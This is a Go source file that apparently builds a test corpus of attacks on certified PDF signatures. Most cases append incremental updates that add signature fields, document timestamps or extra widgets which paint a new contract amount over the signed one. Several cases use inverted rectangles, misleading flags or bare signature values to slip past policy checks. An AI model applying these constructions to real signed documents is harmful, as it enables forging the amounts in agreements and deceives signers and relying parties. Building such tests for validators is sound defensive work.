package attacks

import (
	"fmt"
	"strings"

	"segel/pdf"
)

// Class 4: anything calling itself a signature field. The policy allows
// new signature fields only as widgets without actions, visible only when
// signed in the same revision (after P=1 only invisible document
// timestamps).
func class4() []spec {
	return []spec{
		{"c4-unsigned-visible-sig-field", "on a P=2 document the attacker adds an unsigned visible signature field whose appearance covers the amount with a white box and the new amount", c4Unsigned(2)},
		{"c4-unsigned-visible-sig-field-p1", "as c4-unsigned-visible-sig-field on a P=1 (no changes) document", c4Unsigned(1)},
		{"c4-visible-doctimestamp-p1", "on a P=1 document the attacker adds a real document timestamp (trusted TSA) whose field is visible and covers the amount", c4DocTimestamp(1, false)},
		{"c4-visible-doctimestamp-p2", "on a P=2 document the attacker adds a real, visible document timestamp covering the amount", c4DocTimestamp(2, false)},
		{"c4-fake-doctimestamp", "a visible \"document timestamp\" field whose token is random bytes covers the amount on a P=2 document", c4DocTimestamp(2, true)},
		{"c4-sig-subtype-freetext", "the second party signs (trusted) into a new signature field whose annotation is a /FreeText, not a widget, lying over the amount", c4Subtype("FreeText", "")},
		{"c4-sig-subtype-stamp", "the second party signs into a new signature field whose annotation is a /Stamp over the amount", c4Subtype("Stamp", "")},
		{"c4-signed-sig-with-uri-action", "the second party signs a visible signature widget over the amount that carries a /URI action", c4Subtype("Widget", " /A << /S /URI /URI (https://pks.example.invalid/) >>")},
		{"c4-signed-sig-with-js-aa", "the second party signs a visible signature widget over the amount with an /AA JavaScript action", c4Subtype("Widget", " /AA << /PO << /S /JavaScript /JS (app.alert\\(1\\);) >> >>")},
		{"c4-invisible-empty-sig-made-visible", "an invisible empty signature field planted before signing gets a rectangle over the amount and an appearance, left unsigned", c4MadeVisible},
		{"c4-sig-field-two-widgets", "the second party signs a new signature field with two widget kids: one in the signature area, one over the amount", c4TwoWidgets},
		{"c4-second-widget-via-parent-only", "the second party signs a new visible signature field in the signature area; a second widget whose /Parent is that field (not in its /Kids, only in the page's /Annots) covers the amount", c4ParentOnlyWidget},
		{"c4-planted-sig-field-second-kid", "a planted empty signature field has one widget kid in the signature area; the second party signs it and adds a second kid over the amount", c4PlantedSecondKid},
		{"c4-unsigned-sig-inverted-rect", "an unsigned signature field whose /Rect is written inverted ([x2 y2 x1 y1], \"negative size\") but which viewers normalise and draw over the amount", c4Odd(false, invertedRect, 4)},
		{"c4-doctimestamp-inverted-rect", "on a P=1 document a real document timestamp whose widget /Rect is inverted (looks invisible to a naive width check) covers the amount", c4Odd(true, invertedRect, 4)},
		{"c4-unsigned-sig-invisible-flag", "an unsigned signature widget over the amount with annotation flag 1 (Invisible, which viewers ignore for widgets)", c4Odd(false, amountRect, 1)},
		{"c4-unsigned-sig-no-print-flag", "an unsigned signature widget over the amount with /F 0 (shown on screen, not printed)", c4Odd(false, amountRect, 0)},
		{"c4-doctimestamp-invisible-flag", "on a P=1 document a real document timestamp whose widget has flag 1 (Invisible) covers the amount", c4Odd(true, amountRect, 1)},
		{"c4-sig-value-not-a-signature", "a new visible signature field over the amount has a /V that is a bare /Type /Sig dictionary without /ByteRange or /Contents", c4BareValue},
		{"c4-empty-sig-field-given-appearance", "the victim's co-signer's empty field SigProvinsi (page 3) gets an appearance stating the new amount, left unsigned", c4EmptyGivenAP},
	}
}

// sigWidget is a signature field merged with its widget-like annotation
// of the given subtype over the amount on the annex page.
func (p *pks) sigWidget(u *upd, name, subtype string, ap uint32, extra string) string {
	return p.sigWidgetAt(u, name, subtype, amountRect, ap, extra)
}

// sigWidgetAt is sigWidget with the given rectangle.
func (p *pks) sigWidgetAt(u *upd, name, subtype, rect string, ap uint32, extra string) string {
	return fmt.Sprintf("<< /Type /Annot /Subtype /%s /FT /Sig /T (%s) /Rect %s /F 4 /P %s /AP << /N %s >>%s >>",
		subtype, name, rect, ref(p.pageNum(u)), ref(ap), extra)
}

// invertedRect is amountRect with its corners swapped.
const invertedRect = "[368 714 68 692]"

// withAnnots rewrites the annex page of file in u with /Annots set to
// annots.
func (p *pks) withAnnots(u *upd, file []byte, annots ...uint32) {
	d := dictOf(file, p.page4)
	delete(d, "Annots")
	u.put(p.page4, "<<"+inner(d)+annotsEntry(annots)+" >>")
}

// addFields rewrites the AcroForm of file in u with the new fields
// appended to /Fields (the only change the policy allows there) and
// /SigFlags 3.
func (p *pks) addFields(u *upd, file []byte, fields ...uint32) {
	af := dictOf(file, p.acro)
	fa := append(pdf.Array{}, af["Fields"].(pdf.Array)...)
	for _, f := range fields {
		fa = append(fa, r(f))
	}
	u.put(p.acro, format(with(af, "Fields", fa, "SigFlags", pdf.Int(3))))
}

// planted is the prepared agreement with the plain annex page.
func planted() *pks {
	p := newPKS()
	u := newUpd(p.b)
	p.plainPage(u)
	p.commit(u)
	return p
}

func c4Unsigned(level int) func(e Env, c *Case) {
	return func(e Env, c *Case) {
		p := planted()
		c.Signed = e.certify(p.b, level)
		a := newUpd(c.Signed)
		s := a.alloc()
		a.put(s, p.sigWidget(a, "SigSaksi", "Widget", a.add(boxAppearance(p.helv, NewAmount)), ""))
		p.withAnnots(a, c.Signed, s)
		p.addFields(a, c.Signed, s)
		c.File = a.finish("")
	}
}

func c4DocTimestamp(level int, fake bool) func(e Env, c *Case) {
	return func(e Env, c *Case) {
		p := planted()
		c.Signed = e.certify(p.b, level)
		mk := e.tokenBy()
		if fake {
			mk = garbage
		}
		c.File = signedUpdate(c.Signed, func(a *upd) {
			v := a.add(sigObject("DocTimeStamp"))
			s := a.alloc()
			a.put(s, p.sigWidget(a, "Stempel", "Widget", a.add(boxAppearance(p.helv, NewAmount)), " /V "+ref(v)))
			p.withAnnots(a, c.Signed, s)
			p.addFields(a, c.Signed, s)
		}, mk)
	}
}

// c4Subtype: the second party signs into a new field whose annotation has
// the given subtype and extra entries.
func c4Subtype(subtype, extra string) func(e Env, c *Case) {
	return func(e Env, c *Case) {
		p := planted()
		c.Signed = e.certify(p.b, 2)
		c.File = signedUpdate(c.Signed, func(a *upd) {
			v := a.add(sigObject("Sig"))
			s := a.alloc()
			a.put(s, p.sigWidget(a, "SigSaksi", subtype, a.add(boxAppearance(p.helv, NewAmount)), " /V "+ref(v)+extra))
			p.withAnnots(a, c.Signed, s)
			p.addFields(a, c.Signed, s)
		}, cmsBy(e.Other))
	}
}

func c4MadeVisible(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	s := u.alloc()
	field := func(rect, ap string) string {
		return fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigSaksi) /Rect %s /F 4 /P %s%s >>", rect, ref(p.pageNum(u)), ap)
	}
	u.put(s, field("[0 0 0 0]", ""))
	p.plainPage(u, s)
	p.setFields(u, []uint32{s}, "")
	p.commit(u)
	c.Signed = e.certify(p.b, 2)

	a := newUpd(c.Signed)
	a.put(s, field(amountRect, " /AP << /N "+ref(a.add(boxAppearance(p.helv, NewAmount)))+" >>"))
	c.File = a.finish("")
}

func c4TwoWidgets(e Env, c *Case) {
	p := planted()
	c.Signed = e.certify(p.b, 2)
	c.File = signedUpdate(c.Signed, func(a *upd) {
		v := a.add(sigObject("Sig"))
		f, w1, w2 := a.alloc(), a.alloc(), a.alloc()
		a.put(f, fmt.Sprintf("<< /FT /Sig /T (SigSaksi) /V %s /Kids [%s %s] >>", ref(v), ref(w1), ref(w2)))
		a.put(w1, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /Parent %s /Rect [400 60 560 100] /F 4 /P %s /AP << /N %s >> >>",
			ref(f), ref(p.page4), ref(a.add(textAP(p.helv, "Ditandatangani secara elektronik")))))
		a.put(w2, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /Parent %s /Rect %s /F 4 /P %s /AP << /N %s >> >>",
			ref(f), amountRect, ref(p.page4), ref(a.add(boxAppearance(p.helv, NewAmount)))))
		p.withAnnots(a, c.Signed, w1, w2)
		p.addFields(a, c.Signed, f)
	}, cmsBy(e.Other))
}

func c4BareValue(e Env, c *Case) {
	p := planted()
	c.Signed = e.certify(p.b, 2)
	a := newUpd(c.Signed)
	v := a.add("<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /M (D:20250116090000+07'00') >>")
	s := a.alloc()
	a.put(s, p.sigWidget(a, "SigSaksi", "Widget", a.add(boxAppearance(p.helv, NewAmount)), " /V "+ref(v)))
	p.withAnnots(a, c.Signed, s)
	p.addFields(a, c.Signed, s)
	c.File = a.finish("")
}

func c4EmptyGivenAP(e Env, c *Case) {
	p := planted()
	c.Signed = e.certify(p.b, 2)
	a := newUpd(c.Signed)
	d := dictOf(c.Signed, p.sigProv)
	ap := a.add(stream(fmt.Sprintf(" /Type /XObject /Subtype /Form /BBox [0 0 180 72] /Resources << /Font << /F1 %s >> >>", ref(p.helv)),
		fmt.Sprintf("1 1 1 rg 0 0 180 72 re f 0 g BT /F1 9 Tf 4 40 Td (Nilai kontrak: %s) Tj ET", NewAmount)))
	a.put(p.sigProv, "<<"+inner(d)+" /AP << /N "+ref(ap)+" >> >>")
	c.File = a.finish("")
}

func c4ParentOnlyWidget(e Env, c *Case) {
	p := planted()
	c.Signed = e.certify(p.b, 2)
	c.File = signedUpdate(c.Signed, func(a *upd) {
		v := a.add(sigObject("Sig"))
		f, w2 := a.alloc(), a.alloc()
		a.put(f, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigSaksi) /V %s /Rect [400 60 560 100] /F 4 /P %s /AP << /N %s >> >>",
			ref(v), ref(p.page4), ref(a.add(textAP(p.helv, "Ditandatangani secara elektronik")))))
		a.put(w2, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /Parent %s /Rect %s /F 4 /P %s /AP << /N %s >> >>",
			ref(f), amountRect, ref(p.page4), ref(a.add(boxAppearance(p.helv, NewAmount)))))
		p.withAnnots(a, c.Signed, f, w2)
		p.addFields(a, c.Signed, f)
	}, cmsBy(e.Other))
}

func c4PlantedSecondKid(e Env, c *Case) {
	p := newPKS()
	u := newUpd(p.b)
	f, w1 := u.alloc(), u.alloc()
	u.put(f, fmt.Sprintf("<< /FT /Sig /T (SigSaksi) /Kids [%s] >>", ref(w1)))
	u.put(w1, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /Parent %s /Rect [400 60 560 100] /F 4 /P %s >>", ref(f), ref(p.pageNum(u))))
	p.plainPage(u, w1)
	p.setFields(u, []uint32{f}, "")
	p.commit(u)
	c.Signed = e.certify(p.b, 2)
	c.File = signedUpdate(c.Signed, func(a *upd) {
		v := a.add(sigObject("Sig"))
		w2 := a.alloc()
		a.put(w1, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /Parent %s /Rect [400 60 560 100] /F 4 /P %s /AP << /N %s >> >>",
			ref(f), ref(p.page4), ref(a.add(textAP(p.helv, "Ditandatangani secara elektronik")))))
		a.put(w2, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /Parent %s /Rect %s /F 4 /P %s /AP << /N %s >> >>",
			ref(f), amountRect, ref(p.page4), ref(a.add(boxAppearance(p.helv, NewAmount)))))
		a.put(f, fmt.Sprintf("<< /FT /Sig /T (SigSaksi) /V %s /Kids [%s %s] >>", ref(v), ref(w1), ref(w2)))
		p.withAnnots(a, c.Signed, w1, w2)
	}, cmsBy(e.Other))
}

// c4Odd adds a signature field over the amount with the given /Rect and
// annotation flags: unsigned on a P=2 document, or a document timestamp
// on a P=1 document.
func c4Odd(timestamp bool, rect string, flags int) func(e Env, c *Case) {
	return func(e Env, c *Case) {
		p := planted()
		level := 2
		if timestamp {
			level = 1
		}
		c.Signed = e.certify(p.b, level)
		write := func(a *upd) {
			extra := ""
			if timestamp {
				extra = " /V " + ref(a.add(sigObject("DocTimeStamp")))
			}
			s := a.alloc()
			w := p.sigWidgetAt(a, "Stempel", "Widget", rect, a.add(boxAppearance(p.helv, NewAmount)), extra)
			a.put(s, strings.Replace(w, "/F 4 ", fmt.Sprintf("/F %d ", flags), 1))
			p.withAnnots(a, c.Signed, s)
			p.addFields(a, c.Signed, s)
		}
		if timestamp {
			c.File = signedUpdate(c.Signed, write, e.tokenBy())
			return
		}
		a := newUpd(c.Signed)
		write(a)
		c.File = a.finish("")
	}
}
